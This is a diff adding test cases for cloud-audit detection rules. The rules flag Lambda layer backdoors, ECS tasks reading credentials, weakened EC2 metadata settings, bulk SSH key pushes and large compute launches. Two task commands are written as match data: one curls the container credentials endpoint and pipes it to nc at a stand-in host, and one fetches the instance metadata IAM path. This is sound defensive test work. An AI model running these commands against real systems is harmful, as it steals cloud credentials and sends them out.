@@ -1,5 +1,5 @@
-import { ask, record, roleArn } from '../records.ts';
-import { hourly, one, type RuleCases } from './case.ts';
+import { ask, record, roleArn, several } from '../records.ts';
+import { hourly, many, one, type RuleCases } from './case.ts';
 
 export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
   'function-backdoored': {
@@ -12,6 +12,21 @@ export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
           functionName: 'f',
           layers: ['arn:aws:lambda:eu-west-1:999988887777:layer:l:1'],
         }),
+      ),
+      one(
+        'a new layer of the account',
+        ask('lambda:UpdateFunctionConfiguration20150331v2', {
+          functionName: 'f',
+          layers: ['arn:aws:lambda:eu-west-1:111122223333:layer:l:1'],
+        }),
+      ),
+      one('layers that only the response names', {
+        ...ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f' }),
+        responseElements: { layers: [{ arn: 'arn:aws:lambda:eu-west-1:111122223333:layer:l:1' }] },
+      }),
+      one(
+        'a permission for a caller that the record does not name',
+        ask('lambda:AddPermission20150331v2', { functionName: 'f' }),
       ),
     ],
     ignores: [
@@ -27,6 +42,10 @@ export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
         'a larger memory size',
         ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 512 }),
       ),
+      one('a larger memory size of a function with layers', {
+        ...ask('lambda:UpdateFunctionConfiguration20150331v2', { functionName: 'f', memorySize: 512 }),
+        responseElements: { layers: [{ arn: 'arn:aws:lambda:eu-west-1:111122223333:layer:l:1' }] },
+      }),
     ],
   },
   'startup-script-changed': {
@@ -43,10 +62,76 @@ export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
       ),
     ],
   },
+  'task-reads-credentials': {
+    matches: [
+      one(
+        'a command of a task definition',
+        ask('ecs:RegisterTaskDefinition', {
+          family: 'x',
+          containerDefinitions: [
+            { command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc example.net 9'] },
+          ],
+        }),
+      ),
+      one(
+        'a command of one task',
+        ask('ecs:RunTask', {
+          taskDefinition: 'x',
+          overrides: { containerOverrides: [{ command: ['wget http://169.254.169.254/latest/meta-data/iam/'] }] },
+        }),
+      ),
+    ],
+    ignores: [
+      one(
+        'an ordinary task definition',
+        ask('ecs:RegisterTaskDefinition', {
+          family: 'x',
+          containerDefinitions: [{ command: ['node', 'server.js'], environment: [{ name: 'PORT', value: '80' }] }],
+        }),
+      ),
+    ],
+  },
+  'metadata-service-weakened': {
+    matches: [
+      one(
+        'an instance with optional tokens',
+        ask('ec2:ModifyInstanceMetadataOptions', {
+          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpTokens: 'optional' },
+        }),
+      ),
+      one(
+        'optional tokens for new instances',
+        ask('ec2:ModifyInstanceMetadataDefaults', {
+          ModifyInstanceMetadataDefaultsRequest: { HttpTokens: 'optional' },
+        }),
+      ),
+    ],
+    ignores: [
+      one(
+        'required tokens',
+        ask('ec2:ModifyInstanceMetadataOptions', {
+          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpTokens: 'required' },
+        }),
+      ),
+      one(
+        'another hop limit',
+        ask('ec2:ModifyInstanceMetadataOptions', {
+          ModifyInstanceMetadataOptionsRequest: { InstanceId: 'i-1', HttpPutResponseHopLimit: 2 },
+        }),
+      ),
+    ],
+  },
   'remote-command': {
     matches: [
       one('a command', ask('ssm:SendCommand', { documentName: 'AWS-RunShellScript', instanceIds: ['i-1'] })),
       one('a session', ask('ssm:StartSession', { target: 'i-1' })),
+      many(
+        'a key for one host after the other',
+        several(3, (number, at) =>
+          ask('ec2-instance-connect:SendSSHPublicKey', { instanceId: `i-${number}`, instanceOSUser: 'x' }, {}, at),
+        ),
+      ),
+      one('a command on many hosts', ask('ssm:SendCommand', { instanceIds: ['i-1', 'i-2', 'i-3'] })),
     ],
     ignores: [one('a habitual command', ask('ssm:SendCommand', { instanceIds: ['i-1'] }), hourly(['ssm:SendCommand']))],
   },
@@ -138,8 +223,37 @@ export const changeComputeCases: Readonly<Record<string, RuleCases>> = {
         'many instances',
         ask('ec2:RunInstances', { instanceType: 't3.micro', instancesSet: { items: [{ minCount: 1, maxCount: 40 }] } }),
       ),
+      one(
+        'an accelerator instance in another form',
+        ask('ec2:RunInstances', { instanceType: { value: 'p2.xlarge' }, instancesSet: { items: [{ maxCount: 1 }] } }),
+      ),
+      one(
+        'a spot fleet of large instances',
+        ask('ec2:CreateFleet', {
+          CreateFleetRequest: {
+            LaunchTemplateConfigs: { Overrides: [{ InstanceType: 'c5.large' }, { InstanceType: 'c5.metal' }] },
+            TargetCapacitySpecification: { TotalTargetCapacity: 2 },
+          },
+        }),
+      ),
+      one(
+        'a training job on accelerators',
+        ask('sagemaker:CreateTrainingJob', { resourceConfig: { instanceType: 'ml.p3.2xlarge', instanceCount: 1 } }),
+      ),
+      one(
+        'a large group',
+        ask('autoscaling:CreateAutoScalingGroup', { autoScalingGroupName: 'g', minSize: 1, desiredCapacity: 100 }),
+      ),
+      one(
+        'many spot instances',
+        ask('ec2:RequestSpotInstances', { instanceCount: 60, launchSpecification: { instanceType: 't3.micro' } }),
+      ),
     ],
     ignores: [
+      one(
+        'a small spot request',
+        ask('ec2:RequestSpotInstances', { instanceCount: 1, launchSpecification: { instanceType: 't3.micro' } }),
+      ),
       one(
         'a small instance',
         ask('ec2:RunInstances', { instanceType: 't3.micro', instancesSet: { items: [{ minCount: 1, maxCount: 1 }] } }),
